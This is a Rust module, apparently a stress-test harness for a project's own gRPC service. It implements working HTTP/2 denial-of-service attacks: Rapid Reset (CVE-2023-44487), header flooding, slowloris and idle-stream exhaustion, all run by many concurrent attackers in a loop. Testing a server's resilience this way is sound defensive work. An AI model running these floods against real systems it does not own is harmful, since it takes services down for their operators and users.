//! Attacks on an HTTP/2 server. They continue until they are dropped or the server ends them.

use bytes::Bytes;
use h2::{Reason, client::SendRequest};
use http::Request;
use std::{net::SocketAddr, time::Duration};
use tokio::{
    io::AsyncWriteExt,
    net::TcpStream,
    runtime::{Builder, Runtime},
    time::sleep,
};

/// Kind of attack.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub(crate) enum Attack {
    /// Opens calls and resets them at once (CVE-2023-44487), on consecutive connections.
    RapidReset,
    /// Sends headers as large as the client library allows.
    HeaderFlood,
    /// Connects and sends single bytes slowly.
    SlowLoris,
    /// Opens as many calls as possible and leaves them open.
    IdleCalls,
}

impl Attack {
    pub(crate) const ALL: [Self; 4] = [Self::RapidReset, Self::HeaderFlood, Self::SlowLoris, Self::IdleCalls];

    /// Attacks without end.
    pub(crate) async fn rage(self, address: SocketAddr) {
        loop {
            // The server may end the attack with any error.
            let _ = self.once(address).await;
            sleep(Duration::from_millis(1)).await;
        }
    }

    /// Attacks on one connection until the server closes it.
    pub(crate) async fn once(self, address: SocketAddr) -> Outcome {
        match self {
            Self::RapidReset => rapid_reset(address).await,
            Self::HeaderFlood => header_flood(address).await,
            Self::SlowLoris => slow_loris(address).await,
            Self::IdleCalls => idle_calls(address).await,
        }
    }
}

/// Many attackers on their own threads, until it is dropped.
pub(crate) struct Siege(Option<Runtime>);

impl Siege {
    pub(crate) fn lay(attack: Attack, address: SocketAddr, attackers: usize) -> Self {
        let runtime = Builder::new_multi_thread().worker_threads(1).enable_all().build().unwrap();
        for _ in 0..attackers {
            runtime.spawn(attack.rage(address));
        }
        Self(Some(runtime))
    }
}

impl Drop for Siege {
    fn drop(&mut self) {
        if let Some(runtime) = self.0.take() {
            runtime.shutdown_background();
        }
    }
}

pub(crate) type Outcome = Result<(), Box<dyn std::error::Error + Send + Sync>>;

async fn dial(address: SocketAddr) -> Result<SendRequest<Bytes>, Box<dyn std::error::Error + Send + Sync>> {
    let (sender, connection) = h2::client::handshake(TcpStream::connect(address).await?).await?;
    tokio::spawn(connection);
    Ok(sender)
}

fn call(address: SocketAddr) -> http::request::Builder {
    let path = format!("http://{address}/avln.v1.PlayService/Play");
    Request::post(path).header("content-type", "application/grpc").header("te", "trailers")
}

async fn rapid_reset(address: SocketAddr) -> Outcome {
    let mut sender = dial(address).await?;
    for _ in 0..5000 {
        sender = sender.ready().await?;
        let (_, mut stream) = sender.send_request(call(address).body(())?, false)?;
        stream.send_reset(Reason::CANCEL);
    }
    Ok(())
}

async fn header_flood(address: SocketAddr) -> Outcome {
    let mut sender = dial(address).await?;
    for _ in 0..200 {
        sender = sender.ready().await?;
        let mut call = call(address);
        for number in 0..64 {
            call = call.header(format!("x-flood-{number}"), "x".repeat(1000));
        }
        let (response, _) = sender.send_request(call.body(())?, true)?;
        response.await?;
    }
    Ok(())
}

async fn slow_loris(address: SocketAddr) -> Outcome {
    let mut stream = TcpStream::connect(address).await?;
    for byte in b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n".iter().cycle() {
        stream.write_all(&[*byte]).await?;
        sleep(Duration::from_millis(50)).await;
    }
    Ok(())
}

async fn idle_calls(address: SocketAddr) -> Outcome {
    let mut sender = dial(address).await?;
    let mut open = Vec::new();
    for _ in 0..100 {
        sender = sender.ready().await?;
        open.push(sender.send_request(call(address).header("authorization", "Bearer x").body(())?, false)?);
    }
    sleep(Duration::from_secs(30)).await;
    Ok(())
}
